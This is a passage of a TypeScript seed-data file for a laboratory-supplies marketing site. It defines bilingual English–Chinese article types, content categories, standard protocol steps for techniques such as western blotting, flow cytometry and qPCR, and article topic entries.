/**
 * Editorial data for the marketing seed (server/db/seed/marketing.ts): content categories, the ARTICLE_TYPE
 * dictionary, ~125 content topics in English and Chinese, promotions and home special columns.
 * Static data only; the seed picks products and dates deterministically.
 */
import type { MarketingContentType } from '../schema-marketing'

export interface ArticleTypeDef {
  value: string
  en: string
  zh: string
}
export const ARTICLE_TYPES: ArticleTypeDef[] = [
  { value: 'protocol', en: 'Protocol', zh: '实验方案' },
  { value: 'technical-guide', en: 'Technical guide', zh: '技术指南' },
  { value: 'application-note', en: 'Application note', zh: '应用说明' },
  { value: 'webinar', en: 'Webinar', zh: '网络研讨会' },
  { value: 'white-paper', en: 'White paper', zh: '白皮书' },
  { value: 'troubleshooting', en: 'Troubleshooting', zh: '故障排除' },
  { value: 'workflow-guide', en: 'Workflow guide', zh: '工作流程指南' },
  /** a VM (virtual / video) workflow: wishlisted as 'VM Workflow' */
  { value: 'virtual-workflow', en: 'Virtual workflow (video)', zh: '虚拟工作流程（视频）' },
  { value: 'case-study', en: 'Case study', zh: '客户案例' },
  { value: 'solution-brief', en: 'Solution brief', zh: '解决方案简介' },
  { value: 'brand-story', en: 'Brand', zh: '品牌介绍' },
  { value: 'campaign', en: 'Promotion', zh: '促销活动' },
  { value: 'event', en: 'Event', zh: '活动与会议' },
  { value: 'new-product', en: 'New product', zh: '新品发布' },
]
export type ArticleTypeValue =
  | 'protocol'
  | 'technical-guide'
  | 'application-note'
  | 'webinar'
  | 'white-paper'
  | 'troubleshooting'
  | 'workflow-guide'
  | 'virtual-workflow'
  | 'case-study'
  | 'solution-brief'
  | 'brand-story'
  | 'campaign'
  | 'event'
  | 'new-product'

export interface ContentCategoryDef {
  code: string
  type: MarketingContentType
  en: string
  zh: string
}
export const CONTENT_CATEGORIES: ContentCategoryDef[] = [
  { code: 'kh-cell-biology', type: 'knowledge', en: 'Cell Biology', zh: '细胞生物学' },
  { code: 'kh-molecular-biology', type: 'knowledge', en: 'Molecular Biology', zh: '分子生物学' },
  { code: 'kh-protein-biology', type: 'knowledge', en: 'Protein Biology', zh: '蛋白质生物学' },
  { code: 'kh-flow-cytometry', type: 'knowledge', en: 'Flow Cytometry', zh: '流式细胞术' },
  { code: 'kh-cell-culture', type: 'knowledge', en: 'Cell Culture', zh: '细胞培养' },
  { code: 'kh-lab-essentials', type: 'knowledge', en: 'Lab Essentials & Safety', zh: '实验室基础与安全' },
  { code: 'app-western-blot', type: 'application', en: 'Western Blotting', zh: '蛋白质印迹' },
  { code: 'app-flow-cytometry', type: 'application', en: 'Flow Cytometry Analysis', zh: '流式细胞分析' },
  { code: 'app-pcr-qpcr', type: 'application', en: 'PCR & qPCR', zh: 'PCR 与 qPCR' },
  { code: 'app-cell-imaging', type: 'application', en: 'Cell Imaging', zh: '细胞成像' },
  { code: 'app-immunoassays', type: 'application', en: 'Immunoassays', zh: '免疫检测' },
  { code: 'app-transfection', type: 'application', en: 'Transfection & Gene Delivery', zh: '转染与基因递送' },
  { code: 'wf-antibody', type: 'workflow', en: 'Antibody Workflows', zh: '抗体工作流程' },
  { code: 'wf-genomics', type: 'workflow', en: 'Genomic Workflows', zh: '基因组工作流程' },
  { code: 'wf-cell-culture', type: 'workflow', en: 'Cell Culture Workflows', zh: '细胞培养工作流程' },
  { code: 'wf-protein', type: 'workflow', en: 'Protein Workflows', zh: '蛋白工作流程' },
  { code: 'ind-academic', type: 'industry', en: 'Academic Research', zh: '学术研究' },
  { code: 'ind-biopharma', type: 'industry', en: 'Biopharma', zh: '生物制药' },
  { code: 'ind-clinical', type: 'industry', en: 'Clinical & Diagnostics Research', zh: '临床与诊断研究' },
  { code: 'ind-food-environment', type: 'industry', en: 'Food & Environmental Testing', zh: '食品与环境检测' },
  { code: 'brand-reagents', type: 'brand', en: 'Reagent Brands', zh: '试剂品牌' },
  { code: 'brand-plastics', type: 'brand', en: 'Plastics & Consumables Brands', zh: '塑料耗材品牌' },
  { code: 'brand-instruments', type: 'brand', en: 'Instrument Brands', zh: '仪器品牌' },
  { code: 'camp-promotions', type: 'campaign', en: 'Promotions', zh: '优惠促销' },
  { code: 'camp-events', type: 'campaign', en: 'Events & Webinars', zh: '活动与研讨会' },
  { code: 'camp-new-products', type: 'campaign', en: 'New Products', zh: '新品发布' },
]

/** Technique families: the steps and key points a body is written from. */
export type Family =
  | 'wb'
  | 'flow'
  | 'if'
  | 'pcr'
  | 'culture'
  | 'transfection'
  | 'elisa'
  | 'protein'
  | 'buffer'
  | 'basics'
  | 'viability'
  | 'storage'
export interface FamilyDef {
  en: string
  zh: string
  stepsEn: string[]
  stepsZh: string[]
  pointsEn: string[]
  pointsZh: string[]
}
export const FAMILIES: Record<Family, FamilyDef> = {
  wb: {
    en: 'western blotting',
    zh: '蛋白质印迹',
    stepsEn: [
      'Lyse cells in RIPA buffer with protease and phosphatase inhibitors on ice for 30 minutes.',
      'Quantify protein with a BCA assay and load 10–30 µg per lane with a prestained ladder.',
      'Separate by SDS-PAGE, then transfer to a PVDF or nitrocellulose membrane.',
      'Block for 1 hour, incubate with the primary antibody overnight at 4 °C and wash three times in TBST.',
      'Incubate with an HRP- or fluorophore-conjugated secondary antibody and image.',
    ],
    stepsZh: [
      '在冰上用含蛋白酶和磷酸酶抑制剂的 RIPA 缓冲液裂解细胞 30 分钟。',
      '用 BCA 法定量蛋白，每孔上样 10–30 µg，并加入预染蛋白标准。',
      'SDS-PAGE 分离后转印至 PVDF 或硝酸纤维素膜。',
      '封闭 1 小时，4 °C 孵育一抗过夜，TBST 洗涤三次。',
      '孵育 HRP 或荧光标记二抗后成像。',
    ],
    pointsEn: [
      'Validate every primary antibody for the species and application you use.',
      'Normalize to total protein rather than a single housekeeping protein for quantitative work.',
      'Keep exposure inside the linear range of the detector.',
    ],
    pointsZh: [
      '确认一抗已针对所用物种和应用完成验证。',
      '定量实验建议用总蛋白而非单一内参进行归一化。',
      '曝光时间应保持在检测器的线性范围内。',
    ],
  },
  flow: {
    en: 'flow cytometry',
    zh: '流式细胞术',
    stepsEn: [
      'Prepare a single-cell suspension and count; use 0.5–1 × 10⁶ cells per test.',
      'Block Fc receptors for 10 minutes to reduce non-specific binding.',
      'Stain with titrated surface antibodies for 30 minutes at 4 °C, protected from light.',
      'Wash twice, add a viability dye and fix if samples cannot be acquired the same day.',
      'Acquire with single-stain compensation controls and gate out doublets and dead cells.',
    ],
    stepsZh: [
      '制备单细胞悬液并计数，每个测试使用 0.5–1 × 10⁶ 个细胞。',
      'Fc 受体封闭 10 分钟，降低非特异性结合。',
      '用滴定后的表面抗体于 4 °C 避光染色 30 分钟。',
      '洗涤两次，加入活性染料；如不能当天上机需固定。',
      '使用单染补偿对照上机，并圈门排除粘连体和死细胞。',
    ],
    pointsEn: [
      'Assign the brightest fluorochromes to the least abundant markers.',
      'Titrate every antibody: more is not better and raises background.',
      'Use fluorescence-minus-one controls to set gates on dim populations.',
    ],
    pointsZh: [
      '最亮的荧光素分配给表达量最低的标志物。',
      '每种抗体都需滴定：用量过多只会增加背景。',
      '对弱表达群体使用 FMO 对照设门。',
    ],
  },
  if: {
    en: 'immunofluorescence imaging',
    zh: '免疫荧光成像',
    stepsEn: [
      'Grow cells on coverslips or optical-bottom plates to 60–70% confluence.',
      'Fix with 4% formaldehyde for 15 minutes and permeabilize with 0.1% Triton X-100.',
      'Block with 3% BSA for 1 hour at room temperature.',
      'Incubate with primary antibodies for 1 hour, wash, then with fluorescent secondary antibodies.',
      'Counterstain nuclei with DAPI, mount with antifade medium and image.',
    ],
    stepsZh: [
      '在盖玻片或光学底板上培养细胞至 60–70% 汇合度。',
      '4% 甲醛固定 15 分钟，0.1% Triton X-100 通透。',
      '室温下用 3% BSA 封闭 1 小时。',
      '孵育一抗 1 小时，洗涤后孵育荧光二抗。',
      'DAPI 复染细胞核，抗淬灭封片剂封片后成像。',
    ],
    pointsEn: [
      'Choose fluorophores with minimal spectral overlap for multiplexing.',
      'Include secondary-only controls to judge background.',
      'Image all conditions with identical exposure settings.',
    ],
    pointsZh: ['多重染色选择光谱重叠最小的荧光素。', '设置仅二抗对照以评估背景。', '所有条件使用相同曝光参数成像。'],
  },
  pcr: {
    en: 'PCR and qPCR',
    zh: 'PCR 与 qPCR',
    stepsEn: [
      'Isolate RNA or DNA and check purity by A260/A280 (1.8–2.0).',
      'Treat RNA with DNase and reverse transcribe 1 µg into cDNA.',
      'Assemble reactions on ice with a hot-start master mix, primers and template.',
      'Run 40 cycles of 95 °C for 15 s and 60 °C for 1 min, followed by a melt curve.',
      'Analyse Ct values with the ΔΔCt method against validated reference genes.',
    ],
    stepsZh: [
      '提取 RNA 或 DNA，检测 A260/A280 纯度（1.8–2.0）。',
      'RNA 经 DNase 处理后，取 1 µg 逆转录为 cDNA。',
      '在冰上用热启动预混液、引物和模板配制反应体系。',
      '运行 40 个循环：95 °C 15 秒、60 °C 1 分钟，随后做熔解曲线。',
      '以经验证的内参基因为参照，用 ΔΔCt 法分析 Ct 值。',
    ],
    pointsEn: [
      'Design primers spanning an exon–exon junction to avoid genomic DNA signal.',
      'Always include no-template and no-RT controls.',
      'Aim for amplification efficiencies of 90–110%.',
    ],
    pointsZh: [
      '引物跨外显子连接处设计，避免基因组 DNA 信号。',
      '始终设置无模板对照和无逆转录对照。',
      '扩增效率应在 90–110% 之间。',
    ],
  },
  culture: {
    en: 'cell culture',
    zh: '细胞培养',
    stepsEn: [
      'Thaw the vial quickly at 37 °C and dilute dropwise into pre-warmed complete medium.',
      'Centrifuge at 200 × g for 5 minutes to remove cryoprotectant and resuspend.',
      'Seed at the recommended density and incubate at 37 °C with 5% CO₂.',
      'Passage at 70–80% confluence using a gentle dissociation reagent.',
      'Record passage number and test regularly for mycoplasma.',
    ],
    stepsZh: [
      '37 °C 快速解冻细胞，逐滴稀释到预热的完全培养基中。',
      '200 × g 离心 5 分钟去除冻存保护剂后重悬。',
      '按推荐密度接种，37 °C、5% CO₂ 培养。',
      '细胞汇合度达 70–80% 时用温和的消化试剂传代。',
      '记录传代次数，并定期检测支原体。',
    ],
    pointsEn: [
      'Work aseptically in a certified biosafety cabinet.',
      'Qualify new serum lots on your own cell lines before switching.',
      'Bank low-passage stocks before starting experiments.',
    ],
    pointsZh: [
      '在经认证的生物安全柜中无菌操作。',
      '更换血清批次前先在自己的细胞系上评估。',
      '开始实验前先冻存低代次细胞库。',
    ],
  },
  transfection: {
    en: 'transfection',
    zh: '转染',
    stepsEn: [
      'Seed cells the day before so that they are 70–90% confluent at transfection.',
      'Dilute the nucleic acid and the lipid reagent separately in serum-free medium.',
      'Combine, mix gently and incubate for 10–15 minutes to form complexes.',
      'Add complexes dropwise to the cells; no medium change is needed.',
      'Assay expression or knockdown after 24–72 hours.',
    ],
    stepsZh: [
      '转染前一天接种细胞，使转染时汇合度为 70–90%。',
      '用无血清培养基分别稀释核酸和脂质体试剂。',
      '混合后轻轻吹匀，孵育 10–15 分钟形成复合物。',
      '将复合物逐滴加入细胞，无需换液。',
      '24–72 小时后检测表达或敲低效果。',
    ],
    pointsEn: [
      'Optimize the reagent-to-DNA ratio for each cell type.',
      'Use a fluorescent reporter to estimate efficiency quickly.',
      'Healthy, low-passage cells transfect best.',
    ],
    pointsZh: [
      '针对每种细胞优化试剂与 DNA 的比例。',
      '用荧光报告基因快速评估转染效率。',
      '状态良好的低代次细胞转染效果最佳。',
    ],
  },
  elisa: {
    en: 'ELISA and immunoassays',
    zh: 'ELISA 与免疫检测',
    stepsEn: [
      'Coat a high-binding plate with capture antibody overnight at 4 °C.',
      'Block, then add standards and samples in duplicate for 2 hours.',
      'Add the biotinylated detection antibody, followed by streptavidin-HRP.',
      'Develop with TMB substrate and stop with sulfuric acid.',
      'Read absorbance at 450 nm and fit a four-parameter logistic curve.',
    ],
    stepsZh: [
      '4 °C 过夜用捕获抗体包被高结合力酶标板。',
      '封闭后加入标准品和样品（复孔）孵育 2 小时。',
      '加入生物素化检测抗体，再加链霉亲和素-HRP。',
      'TMB 底物显色，硫酸终止反应。',
      '450 nm 读取吸光度，并用四参数曲线拟合。',
    ],
    pointsEn: [
      'Run a full standard curve on every plate.',
      'Wash thoroughly: residual reagent is the commonest cause of high background.',
      'Avoid edge effects by equilibrating plates to room temperature.',
    ],
    pointsZh: [
      '每块板都要做完整的标准曲线。',
      '充分洗涤：残留试剂是高背景最常见的原因。',
      '酶标板平衡至室温以避免边缘效应。',
    ],
  },
  protein: {
    en: 'protein analysis',
    zh: '蛋白分析',
    stepsEn: [
      'Prepare lysate or purified protein in a compatible, amine-free buffer.',
      'Measure concentration with a BCA or Bradford assay against a BSA standard curve.',
      'Capture or label the target (magnetic beads, amine-reactive dyes or biotin).',
      'Remove unbound reagent with a desalting column or magnetic separation.',
      'Verify the result by SDS-PAGE or absorbance before downstream use.',
    ],
    stepsZh: [
      '在兼容、无伯胺的缓冲液中制备裂解液或纯化蛋白。',
      '以 BSA 标准曲线用 BCA 或 Bradford 法测定浓度。',
      '捕获或标记目标蛋白（磁珠、胺反应染料或生物素）。',
      '用脱盐柱或磁分离去除未结合试剂。',
      '下游使用前用 SDS-PAGE 或吸光度验证结果。',
    ],
    pointsEn: [
      'Reducing agents and detergents interfere with some protein assays.',
      'Aim for a degree of labeling of 3–7 dyes per antibody.',
      'Keep samples on ice and add protease inhibitors.',
    ],
    pointsZh: [
      '还原剂和去垢剂会干扰部分蛋白定量方法。',
      '抗体标记度以每个抗体 3–7 个染料分子为宜。',
      '样品置于冰上并加入蛋白酶抑制剂。',
    ],
  },
  buffer: {
    en: 'buffer preparation',
    zh: '缓冲液配制',
    stepsEn: [
      'Weigh reagents on a calibrated balance into 80% of the final volume of ultrapure water.',
      'Stir until dissolved and bring to temperature before adjusting pH.',
      'Adjust pH with HCl or NaOH and make up to the final volume.',
      'Filter through a 0.22 µm membrane or autoclave as appropriate.',
      'Label with contents, date and initials; store at the recommended temperature.',
    ],
    stepsZh: [
      '用校准过的天平称量试剂，加入终体积 80% 的超纯水中。',
      '搅拌溶解，并在调节 pH 前平衡至使用温度。',
      '用 HCl 或 NaOH 调节 pH 后定容。',
      '根据需要用 0.22 µm 滤膜过滤或高压灭菌。',
      '标注成分、日期和配制人，按推荐温度保存。',
    ],
    pointsEn: [
      'Tris pH shifts with temperature: adjust at the working temperature.',
      'Use molecular-biology grade water for RNA work.',
      'Ready-to-use buffers remove batch-to-batch variation.',
    ],
    pointsZh: [
      'Tris 的 pH 随温度变化：请在使用温度下调节。',
      'RNA 实验使用分子生物学级水。',
      '即用型缓冲液可消除批间差异。',
    ],
  },
  basics: {
    en: 'lab essentials',
    zh: '实验室基础',
    stepsEn: [
      'Choose the smallest pipette whose range covers the volume.',
      'Pre-wet the tip and aspirate slowly at a consistent angle.',
      'Balance centrifuge tubes by mass and close the rotor lid before starting.',
      'Wear gloves suited to the chemicals in use and change them when contaminated.',
      'Service and calibrate instruments on a fixed schedule.',
    ],
    stepsZh: [
      '选择量程能覆盖目标体积的最小移液器。',
      '预润湿吸头，以一致的角度缓慢吸液。',
      '离心管按质量配平，启动前盖好转子盖。',
      '佩戴适合所用化学品的手套，污染后及时更换。',
      '按固定周期维护和校准仪器。',
    ],
    pointsEn: [
      'Filter tips protect pipettes and samples from aerosols.',
      'Never exceed the rated speed of a rotor or tube.',
      'Nitrile offers broad resistance but not to every solvent.',
    ],
    pointsZh: [
      '滤芯吸头可防止气溶胶污染移液器和样品。',
      '切勿超过转子或离心管的额定转速。',
      '丁腈手套耐受性广，但并非适用于所有溶剂。',
    ],
  },
  viability: {
    en: 'cell health assays',
    zh: '细胞健康检测',
    stepsEn: [
      'Seed cells in a 96-well plate and treat with the compounds of interest.',
      'Add the viability or apoptosis reagent at the recommended dilution.',
      'Incubate for the indicated time at 37 °C, protected from light.',
      'Read fluorescence or absorbance on a microplate reader, or acquire by flow cytometry.',
      'Normalize to untreated and fully lysed controls.',
    ],
    stepsZh: [
      '96 孔板接种细胞并加入待测化合物处理。',
      '按推荐稀释度加入活力或凋亡检测试剂。',
      '37 °C 避光孵育规定时间。',
      '用酶标仪读取荧光或吸光度，或用流式细胞仪检测。',
      '以未处理和完全裂解对照进行归一化。',
    ],
    pointsEn: [
      'Combine a metabolic readout with a membrane-integrity dye.',
      'Annexin V binding needs calcium in the buffer.',
      'Avoid over-confluent wells, which skew metabolic assays.',
    ],
    pointsZh: [
      '代谢类读数与膜完整性染料结合使用。',
      'Annexin V 结合需要缓冲液中含钙。',
      '避免细胞过度汇合，否则会影响代谢类检测。',
    ],
  },
  storage: {
    en: 'sample storage',
    zh: '样本存储',
    stepsEn: [
      'Aliquot samples to avoid repeated freeze–thaw cycles.',
      'Label vials with cryo-resistant labels or 2D barcodes.',
      'Freeze cells at −1 °C per minute in a controlled-rate container.',
      'Transfer to −80 °C or liquid nitrogen and record the location in an inventory.',
      'Monitor freezer temperature with alarms and a backup plan.',
    ],
    stepsZh: [
      '将样本分装，避免反复冻融。',
      '使用耐低温标签或二维条码标记冻存管。',
      '在程序降温盒中以每分钟 −1 °C 冻存细胞。',
      '转移至 −80 °C 或液氮，并在库存系统中记录位置。',
      '配置温度报警和备用方案监控冰箱。',
    ],
    pointsEn: [
      'Keep freezers at most 80% full for airflow.',
      'Defrost and clean door gaskets regularly.',
      'External-thread vials reduce contamination in liquid nitrogen.',
    ],
    pointsZh: ['冰箱装载不超过 80% 以保证气流。', '定期除霜并清洁门封。', '外旋盖冻存管可降低液氮中的污染风险。'],
  },
}

/** [titleEn, titleZh, articleType, family, product leaf categories, brand filter?] */
export type Topic = [string, string, ArticleTypeValue, Family, string[], string?]

export const TOPICS: Record<string, Topic[]> = {
  'kh-cell-biology': [
    [
      'Immunofluorescence staining of adherent cells',
      '贴壁细胞免疫荧光染色',
      'protocol',
      'if',
      ['primary-antibodies', 'secondary-antibodies', 'fluorescent-dyes'],
    ],
    [
      'Choosing fluorophores for multiplex imaging',
      '多重成像荧光素选择指南',
      'technical-guide',
      'if',
      ['fluorescent-dyes', 'secondary-antibodies'],
    ],
    [
      'Apoptosis detection with caspase-3 and annexin V',
      '用 Caspase-3 和 Annexin V 检测细胞凋亡',
      'application-note',
      'viability',
      ['primary-antibodies', 'fluorescent-dyes'],
    ],
    [
      'Cell viability and proliferation assays compared',
      '细胞活力与增殖检测方法比较',
      'technical-guide',
      'viability',
      ['fluorescent-dyes', 'microplate-readers'],
    ],
    [
      'Live-cell imaging without phototoxicity',
      '无光毒性的活细胞成像',
      'webinar',
      'if',
      ['fluorescent-dyes', 'plates-flasks'],
    ],
    [
      'Troubleshooting high background in immunostaining',
      '免疫染色高背景故障排除',
      'troubleshooting',
      'if',
      ['secondary-antibodies', 'buffers-solutions'],
    ],
    [
      'Organoid immunostaining: a practical introduction',
      '类器官免疫染色实用入门',
      'protocol',
      'if',
      ['primary-antibodies', 'cell-culture-media'],
    ],
  ],
  'kh-molecular-biology': [
    [
      'Total RNA isolation from cultured cells',
      '培养细胞总 RNA 提取',
      'protocol',
      'pcr',
      ['molecular-biology-reagents', 'centrifuge-tubes'],
    ],
    [
      'Two-step RT-qPCR: from RNA to Ct values',
      '两步法 RT-qPCR：从 RNA 到 Ct 值',
      'protocol',
      'pcr',
      ['molecular-biology-reagents', 'pcr-thermal-cyclers'],
    ],
    [
      'PCR optimization: primers, Mg²⁺ and annealing temperature',
      'PCR 优化：引物、Mg²⁺ 与退火温度',
      'technical-guide',
      'pcr',
      ['enzymes', 'molecular-biology-reagents'],
    ],
    ['Restriction cloning basics', '酶切克隆基础', 'technical-guide', 'pcr', ['enzymes', 'centrifuge-tubes']],
    [
      'Digital PCR or qPCR for low-abundance targets?',
      '低丰度靶标：数字 PCR 还是 qPCR？',
      'webinar',
      'pcr',
      ['pcr-thermal-cyclers', 'molecular-biology-reagents'],
    ],
    [
      'Troubleshooting non-specific PCR amplification',
      '非特异性 PCR 扩增故障排除',
      'troubleshooting',
      'pcr',
      ['enzymes', 'molecular-biology-reagents'],
    ],
    [
      'Reference gene selection for qPCR normalization',
      'qPCR 归一化内参基因的选择',
      'white-paper',
      'pcr',
      ['molecular-biology-reagents'],
    ],
  ],
  'kh-protein-biology': [
    [
      'Western blot protocol: from lysate to detection',
      '蛋白质印迹实验方案：从裂解到检测',
      'protocol',
      'wb',
      ['primary-antibodies', 'secondary-antibodies', 'protein-standards'],
    ],
    [
      'BCA or Bradford: choosing a protein assay',
      'BCA 还是 Bradford：蛋白定量方法选择',
      'technical-guide',
      'protein',
      ['protein-standards', 'microplate-readers'],
    ],
    [
      'Sandwich ELISA development guide',
      '双抗夹心 ELISA 开发指南',
      'technical-guide',
      'elisa',
      ['primary-antibodies', 'microplate-readers'],
    ],
    [
      'Immunoprecipitation with magnetic beads',
      '磁珠免疫沉淀',
      'protocol',
      'protein',
      ['primary-antibodies', 'buffers-solutions'],
    ],
    [
      'Labeling antibodies with amine-reactive dyes',
      '胺反应染料标记抗体',
      'protocol',
      'protein',
      ['antibody-labeling-kits', 'fluorescent-dyes'],
    ],
    ['Antibody validation strategies', '抗体验证策略', 'white-paper', 'wb', ['primary-antibodies']],
    [
      'Protein ladders: reading your gel with confidence',
      '蛋白标准：准确判读凝胶结果',
      'technical-guide',
      'wb',
      ['protein-standards'],
    ],
  ],
  'kh-flow-cytometry': [
    [
      'Cell surface staining for flow cytometry',
      '流式细胞术细胞表面染色',
      'protocol',
      'flow',
      ['flow-cytometry-antibodies', 'isotype-controls'],
    ],
    [
      'Intracellular cytokine staining',
      '胞内细胞因子染色',
      'protocol',
      'flow',
      ['flow-cytometry-antibodies', 'buffers-solutions'],
    ],
    [
      'Panel design for 10-colour immunophenotyping',
      '10 色免疫表型分析的抗体组合设计',
      'technical-guide',
      'flow',
      ['flow-cytometry-antibodies'],
    ],
    [
      'Compensation controls explained',
      '补偿对照详解',
      'technical-guide',
      'flow',
      ['isotype-controls', 'flow-cytometry-antibodies'],
    ],
    [
      'Identifying regulatory T cells with FOXP3',
      '用 FOXP3 鉴定调节性 T 细胞',
      'webinar',
      'flow',
      ['flow-cytometry-antibodies', 'primary-antibodies'],
    ],
    [
      'Troubleshooting weak signal in flow cytometry',
      '流式细胞术弱信号故障排除',
      'troubleshooting',
      'flow',
      ['flow-cytometry-antibodies', 'isotype-controls'],
    ],
    [
      'Viability dyes for fixed and live samples',
      '适用于固定和活细胞样本的活性染料',
      'technical-guide',
      'viability',
      ['fluorescent-dyes', 'flow-cytometry-antibodies'],
    ],
  ],
  'kh-cell-culture': [
    [
      'Thawing and passaging mammalian cells',
      '哺乳动物细胞的复苏与传代',
      'protocol',
      'culture',
      ['cell-culture-media', 'fetal-bovine-serum', 'serological-pipettes'],
    ],
    [
      'Choosing and qualifying fetal bovine serum',
      '胎牛血清的选择与评估',
      'technical-guide',
      'culture',
      ['fetal-bovine-serum'],
    ],
    [
      'Mycoplasma prevention and detection',
      '支原体的预防与检测',
      'technical-guide',
      'culture',
      ['supplements-reagents', 'cell-culture-media'],
    ],
    [
      'Lipid-mediated transfection of HEK293 cells',
      'HEK293 细胞脂质体转染',
      'protocol',
      'transfection',
      ['transfection-reagents', 'plates-flasks'],
    ],
    [
      'Adapting cells to serum-free media',
      '细胞的无血清培养基适应',
      'application-note',
      'culture',
      ['cell-culture-media', 'supplements-reagents'],
    ],
    [
      'Cryopreservation best practices',
      '细胞冻存最佳实践',
      'protocol',
      'storage',
      ['centrifuge-tubes', 'lab-freezers'],
    ],
    [
      '3D culture: spheroids in low-attachment plates',
      '三维培养：低吸附板中的细胞球',
      'application-note',
      'culture',
      ['plates-flasks', 'cell-culture-media'],
    ],
  ],
  'kh-lab-essentials': [
    [
      'Pipetting technique for accuracy and precision',
      '提高准确度和精密度的移液技巧',
      'technical-guide',
      'basics',
      ['pipettes', 'pipette-tips'],
    ],
    [
      'Centrifuge rotor care and balancing',
      '离心机转子的维护与配平',
      'technical-guide',
      'basics',
      ['centrifuges', 'centrifuge-tubes'],
    ],
    [
      'Choosing gloves for chemical resistance',
      '按化学耐受性选择手套',
      'technical-guide',
      'basics',
      ['gloves', 'solvents'],
    ],
    ['Preparing PBS, TBS and Tris-EDTA', 'PBS、TBS 与 Tris-EDTA 的配制', 'protocol', 'buffer', ['buffers-solutions']],
    [
      'Ultra-low freezer sample management',
      '超低温冰箱样本管理',
      'white-paper',
      'storage',
      ['lab-freezers', 'centrifuge-tubes'],
    ],
    ['CO₂ incubator contamination control', 'CO₂ 培养箱污染控制', 'technical-guide', 'culture', ['co2-incubators']],
    [
      'Solvent grades explained: HPLC, ACS and more',
      '溶剂等级解读：HPLC、ACS 等',
      'technical-guide',
      'buffer',
      ['solvents'],
    ],
  ],
  'app-western-blot': [
    [
      'Detecting low-abundance phosphoproteins by western blot',
      '蛋白质印迹检测低丰度磷酸化蛋白',
      'application-note',
      'wb',
      ['primary-antibodies', 'secondary-antibodies'],
    ],
    [
      'Fluorescent multiplex western blotting',
      '荧光多重蛋白质印迹',
      'application-note',
      'wb',
      ['secondary-antibodies', 'protein-standards'],
    ],
    [
      'Total protein normalization for quantitative western blots',
      '定量蛋白质印迹的总蛋白归一化',
      'technical-guide',
      'wb',
      ['protein-standards', 'buffers-solutions'],
    ],
    [
      'Stripping and reprobing membranes',
      '膜的剥离与再杂交',
      'protocol',
      'wb',
      ['buffers-solutions', 'secondary-antibodies'],
    ],
  ],
  'app-flow-cytometry': [
    [
      'Immunophenotyping of human PBMC',
      '人外周血单个核细胞免疫表型分析',
      'application-note',
      'flow',
      ['flow-cytometry-antibodies', 'isotype-controls'],
    ],
    ['Cell cycle analysis with DNA dyes', 'DNA 染料细胞周期分析', 'application-note', 'flow', ['fluorescent-dyes']],
    [
      'Monitoring T-cell activation with CD25 and CD69',
      '用 CD25 和 CD69 监测 T 细胞活化',
      'application-note',
      'flow',
      ['flow-cytometry-antibodies'],
    ],
    [
      'Detecting apoptosis by flow cytometry',
      '流式细胞术检测细胞凋亡',
      'application-note',
      'viability',
      ['flow-cytometry-antibodies', 'fluorescent-dyes'],
    ],
  ],
  'app-pcr-qpcr': [
    [
      'Gene expression analysis with SYBR Green',
      'SYBR Green 基因表达分析',
      'application-note',
      'pcr',
      ['molecular-biology-reagents', 'pcr-thermal-cyclers'],
    ],
    [
      'SNP genotyping with probe-based qPCR',
      '探针法 qPCR 进行 SNP 分型',
      'application-note',
      'pcr',
      ['molecular-biology-reagents', 'pcr-thermal-cyclers'],
    ],
    [
      'High-throughput qPCR in 384-well plates',
      '384 孔板高通量 qPCR',
      'application-note',
      'pcr',
      ['plates-flasks', 'pcr-thermal-cyclers'],
    ],
    [
      'Viral RNA detection workflow for research labs',
      '科研实验室病毒 RNA 检测流程',
      'application-note',
      'pcr',
      ['molecular-biology-reagents', 'centrifuge-tubes'],
    ],
  ],
  'app-cell-imaging': [
    [
      'Three-colour immunofluorescence of neurons',
      '神经元三色免疫荧光',
      'application-note',
      'if',
      ['primary-antibodies', 'secondary-antibodies'],
    ],
    [
      'Cytoskeleton staining with phalloidin conjugates',
      '鬼笔环肽偶联物细胞骨架染色',
      'application-note',
      'if',
      ['fluorescent-dyes'],
    ],
    ['Nuclear counterstains compared', '细胞核复染剂比较', 'technical-guide', 'if', ['fluorescent-dyes']],
  ],
  'app-immunoassays': [
    [
      'Cytokine quantitation in culture supernatants',
      '培养上清中细胞因子定量',
      'application-note',
      'elisa',
      ['primary-antibodies', 'microplate-readers'],
    ],
    [
      'ELISA plate selection guide',
      'ELISA 酶标板选择指南',
      'technical-guide',
      'elisa',
      ['plates-flasks', 'microplate-readers'],
    ],
    [
      'Reducing variability in ELISA',
      '降低 ELISA 变异性',
      'technical-guide',
      'elisa',
      ['pipettes', 'microplate-readers'],
    ],
  ],
  'app-transfection': [
    [
      'CRISPR RNP delivery into primary T cells',
      '原代 T 细胞 CRISPR RNP 递送',
      'application-note',
      'transfection',
      ['transfection-reagents', 'cell-culture-media'],
    ],
    [
      'siRNA knockdown in HeLa cells',
      'HeLa 细胞 siRNA 敲低',
      'application-note',
      'transfection',
      ['transfection-reagents'],
    ],
    [
      'Lentivirus production in HEK293T cells',
      'HEK293T 细胞慢病毒包装',
      'application-note',
      'transfection',
      ['transfection-reagents', 'plates-flasks'],
    ],
  ],
  'wf-antibody': [
    [
      'Flow cytometry workflow: from sample to data',
      '流式细胞术工作流程：从样本到数据',
      'workflow-guide',
      'flow',
      ['flow-cytometry-antibodies', 'isotype-controls', 'centrifuge-tubes'],
    ],
    [
      'Virtual workflow: building a multicolour flow panel',
      '虚拟工作流程：构建多色流式抗体组合',
      'virtual-workflow',
      'flow',
      ['flow-cytometry-antibodies'],
    ],
    [
      'Immunohistochemistry workflow: tissue to image',
      '免疫组化工作流程：从组织到图像',
      'workflow-guide',
      'if',
      ['primary-antibodies', 'secondary-antibodies'],
    ],
    [
      'Virtual workflow: immunofluorescence imaging',
      '虚拟工作流程：免疫荧光成像',
      'virtual-workflow',
      'if',
      ['primary-antibodies', 'fluorescent-dyes'],
    ],
    [
      'Antibody labeling workflow',
      '抗体标记工作流程',
      'workflow-guide',
      'protein',
      ['antibody-labeling-kits', 'fluorescent-dyes'],
    ],
  ],
  'wf-genomics': [
    [
      'Gene expression workflow: RNA extraction to qPCR',
      '基因表达工作流程：从 RNA 提取到 qPCR',
      'workflow-guide',
      'pcr',
      ['molecular-biology-reagents', 'pcr-thermal-cyclers'],
    ],
    [
      'Virtual workflow: RT-qPCR at the bench',
      '虚拟工作流程：RT-qPCR 实验操作',
      'virtual-workflow',
      'pcr',
      ['molecular-biology-reagents', 'pipette-tips'],
    ],
    [
      'Cloning workflow: PCR to colony screening',
      '克隆工作流程：从 PCR 到菌落筛选',
      'workflow-guide',
      'pcr',
      ['enzymes', 'centrifuge-tubes'],
    ],
    [
